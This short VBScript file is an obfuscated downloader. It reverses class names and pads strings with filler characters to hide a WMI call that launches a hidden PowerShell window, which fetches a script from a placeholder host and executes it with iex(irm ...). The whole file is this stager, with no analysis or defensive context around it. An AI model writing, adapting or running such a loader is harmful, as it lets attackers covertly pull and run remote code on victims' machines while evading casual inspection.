Dim service, made, start, id
Set service = GetObject("winmgm" & "ts:\\.\root\cimv2")
Set made = service.Get(StrReverse("putratSssecorP_23niW")).SpawnInstance_
made.ShowWindow = 0
Set start = service.Get(StrReverse("ssecorP_23niW"))
start.Create Replace("powerQQshell -w hiQQdden -c ""iQQex(iQQrm http://host.invalid/w)""", "QQ", ""), Null, made, id
